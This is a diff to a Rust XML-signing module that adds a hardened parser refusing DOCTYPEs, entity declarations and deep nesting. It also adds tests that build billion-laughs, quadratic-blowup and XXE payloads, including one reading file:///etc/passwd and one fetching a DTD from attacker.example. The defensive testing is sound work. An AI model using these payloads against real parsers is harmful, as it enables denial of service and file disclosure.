@@ -3,6 +3,9 @@
 //! The signature is spliced into the caller's text just before the root's end tag, so every
 //! byte outside `ds:Signature` stays as given. Canonicalization is bergshamra's C14N 1.0 over the
 //! `uppsala` parse tree; digests come from `sha2`, base64 from `base64`.
+//!
+//! Every document, the page's and the verifier's, goes through [`parse`]: no DOCTYPE, no entity
+//! declarations, at most [`MAX_DEPTH`] nested elements (docs/PROTOCOL.md, "Limits on XML").
 
 use base64::engine::general_purpose::STANDARD as BASE64;
 use base64::Engine as _;
@@ -26,6 +29,11 @@ pub const GOST2015_512: &str =
 /// Streebog-512 digest, as Kazakhstan's PKI names it.
 pub const STREEBOG_512: &str =
     "urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34112015-512";
+/// Deepest element nesting accepted: uppsala's own default, sized for a 2 MiB thread stack;
+/// NCALayer-style documents nest a dozen levels.
+pub const MAX_DEPTH: u32 = 128;
+/// Bytes that declared entities may expand to: none, as declarations are refused; a second lock.
+pub const MAX_ENTITY_EXPANSION: usize = 0;
 /// Line length of wrapped base64, as Java's MIME encoder (and so NCALayer) writes it.
 const BASE64_LINE: usize = 76;
 
@@ -44,6 +52,9 @@ pub enum XmlError {
     /// The input is not well-formed XML, is empty, or has no root element.
     #[error("invalid XML: {0}")]
     InvalidXml(String),
+    /// Well-formed, perhaps, but outside the limits on XML: refused before any work on it.
+    #[error("{0}")]
+    Refused(#[from] Refusal),
     /// The key refused or failed to sign.
     #[error(transparent)]
     Key(#[from] KeyError),
@@ -53,6 +64,23 @@ pub enum XmlError {
     /// A bug in this module, not in the input; reported instead of panicking.
     #[error("internal XML signing error: {0}")]
     Internal(&'static str),
+}
+
+/// What about a document was refused; each one sentence that reaches the page as is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
+pub enum Refusal {
+    /// Entities are how billion-laughs, quadratic blowup and external (file, network) reads work.
+    #[error("XML entity declarations are not accepted")]
+    EntityDeclarations,
+    /// A DTD can name an external subset and changes what a document means; signatures need none.
+    #[error("XML with a DOCTYPE (DTD) is not accepted")]
+    Doctype,
+    /// Deep nesting costs stack in every tree walk after the parse.
+    #[error("XML nested deeper than {MAX_DEPTH} elements is not accepted")]
+    TooDeep,
+    /// Only reachable if an entity slipped past the refusal of declarations.
+    #[error("XML entity expansion is not accepted")]
+    EntityExpansion,
 }
 
 /// Signs `xml` with an enveloped signature appended as the last child of its root element.
@@ -92,14 +120,47 @@ pub fn reference_digest(xml: &str) -> Result<[u8; 32], XmlError> {
     digest_of(&parse(xml)?)
 }
 
-fn parse(xml: &str) -> Result<Document<'_>, XmlError> {
-    let doc = uppsala::parse(xml).map_err(|e| XmlError::InvalidXml(e.to_string()))?;
+/// Parses a document from outside within the limits on XML; the only way XML is parsed here.
+///
+/// uppsala never reads files or the network: it skips a DOCTYPE's external subset, does not
+/// resolve parameter entities and does not load external entities. What it would expand
+/// (internal entities) is refused at the first declaration, before any expansion.
+pub fn parse(xml: &str) -> Result<Document<'_>, XmlError> {
+    let parser = uppsala::Parser::new()
+        .with_forbid_entities(true)
+        .with_max_depth(MAX_DEPTH)
+        .with_max_entity_expansion(MAX_ENTITY_EXPANSION);
+    let doc = parser.parse(xml).map_err(|e| match refusal(&e) {
+        Some(refusal) => XmlError::Refused(refusal),
+        None => XmlError::InvalidXml(e.to_string()),
+    })?;
+    if doc.doctype.is_some() {
+        return Err(Refusal::Doctype.into());
+    }
     if doc.document_element().is_none() {
         return Err(XmlError::InvalidXml(
             "the document has no root element".into(),
         ));
     }
     Ok(doc)
+}
+
+/// Which limit a parse error reports. uppsala tells its limits apart only by message; the
+/// tests of each refusal fail if a new uppsala words them differently.
+fn refusal(error: &uppsala::XmlError) -> Option<Refusal> {
+    let uppsala::XmlError::Parse(error) = error else {
+        return None;
+    };
+    let message = error.message.as_str();
+    if message.starts_with("Entity declarations are not allowed") {
+        Some(Refusal::EntityDeclarations)
+    } else if message.starts_with("Element nesting exceeds maximum depth") {
+        Some(Refusal::TooDeep)
+    } else if message.starts_with("Entity expansion exceeds") {
+        Some(Refusal::EntityExpansion)
+    } else {
+        None
+    }
 }
 
 fn digest_of(doc: &Document<'_>) -> Result<[u8; 32], XmlError> {
@@ -119,8 +180,8 @@ fn canonicalize(doc: &Document<'_>, nodes: &NodeSet) -> Result<Vec<u8>, XmlError
 
 /// Canonical SignedInfo of the signature that starts at byte `offset` of `text`, in document context.
 fn canonical_signed_info(text: &str, offset: usize) -> Result<Vec<u8>, XmlError> {
-    let doc = uppsala::parse(text)
-        .map_err(|_| XmlError::Internal("the document no longer parses once signed"))?;
+    let doc =
+        parse(text).map_err(|_| XmlError::Internal("the document no longer parses once signed"))?;
     let signature = find_signature_at(&doc, offset)?;
     let signed_info = doc
         .children(signature)
@@ -402,6 +463,108 @@ mod tests {
             "<ds:SignedInfo xmlns=\"urn:d\" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">\n<ds:Canon"
         ));
         assert!(!c14n.contains('\r'));
+    }
+
+    /// Ten entities, each ten of the one before: 10^9 "lol"s if expanded.
+    fn billion_laughs() -> String {
+        let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
+        for i in 1..10 {
+            let refs = format!("&lol{};", i - 1).repeat(10);
+            dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
+        }
+        format!("<?xml version=\"1.0\"?><!DOCTYPE lolz [{dtd}]><lolz>&lol9;</lolz>")
+    }
+
+    /// One 100 kB entity referenced 100 000 times: 10 GB if expanded, no nesting needed.
+    fn quadratic_blowup() -> String {
+        let value = "A".repeat(100_000);
+        let refs = "&a;".repeat(100_000);
+        format!("<!DOCTYPE r [<!ENTITY a \"{value}\">]><r>{refs}</r>")
+    }
+
+    fn nested(depth: usize) -> String {
+        format!("{}{}", "<e>".repeat(depth), "</e>".repeat(depth))
+    }
+
+    /// The page's two ways in: the check before the prompt, and the signing itself.
+    fn assert_refused(xml: &str, expected: Refusal) {
+        let checked = reference_digest(xml).unwrap_err();
+        assert!(
+            matches!(checked, XmlError::Refused(r) if r == expected),
+            "{checked:?}"
+        );
+        let signed = sign_enveloped(xml, &FakeSigner, XmlLayout::Compact).unwrap_err();
+        assert!(
+            matches!(signed, XmlError::Refused(r) if r == expected),
+            "{signed:?}"
+        );
+    }
+
+    #[test]
+    fn billion_laughs_is_refused_at_the_first_entity_declaration() {
+        assert_refused(&billion_laughs(), Refusal::EntityDeclarations);
+    }
+
+    #[test]
+    fn quadratic_blowup_is_refused_before_any_expansion() {
+        assert_refused(&quadratic_blowup(), Refusal::EntityDeclarations);
+    }
+
+    #[test]
+    fn external_entity_cannot_read_a_local_file() {
+        let xml = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
+        assert_refused(xml, Refusal::EntityDeclarations);
+    }
+
+    #[test]
+    fn parameter_entity_cannot_pull_in_an_external_dtd() {
+        let xml =
+            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><a/>";
+        assert_refused(xml, Refusal::EntityDeclarations);
+    }
+
+    #[test]
+    fn external_dtd_is_refused_not_fetched() {
+        assert_refused(
+            "<!DOCTYPE a SYSTEM \"http://attacker.example/evil.dtd\"><a/>",
+            Refusal::Doctype,
+        );
+        assert_refused(
+            "<!DOCTYPE a PUBLIC \"-//A//B\" \"file:///etc/passwd\"><a/>",
+            Refusal::Doctype,
+        );
+    }
+
+    #[test]
+    fn any_doctype_is_refused_even_without_entities() {
+        assert_refused("<!DOCTYPE a><a/>", Refusal::Doctype);
+        assert_refused(
+            "<!DOCTYPE a [<!ATTLIST a id ID #IMPLIED> %undeclared;]><a/>",
+            Refusal::Doctype,
+        );
+    }
+
+    #[test]
+    fn nesting_deeper_than_max_depth_is_refused() {
+        assert_refused(&nested(MAX_DEPTH as usize + 1), Refusal::TooDeep);
+    }
+
+    #[test]
+    fn nesting_of_exactly_max_depth_still_signs() {
+        let xml = nested(MAX_DEPTH as usize);
+        let signed = sign_enveloped(&xml, &FakeSigner, XmlLayout::Wrapped).expect("signs");
+        assert_eq!(
+            reference_digest(&xml).expect("digest"),
+            signature_subtree_excluded_digest(&signed)
+        );
+    }
+
+    #[test]
+    fn refusals_name_the_limit_for_the_page() {
+        let shown = XmlError::from(Refusal::EntityDeclarations).to_string();
+        assert_eq!(shown, "XML entity declarations are not accepted");
+        let shown = XmlError::from(Refusal::TooDeep).to_string();
+        assert_eq!(shown, "XML nested deeper than 128 elements is not accepted");
     }
 
     #[test]
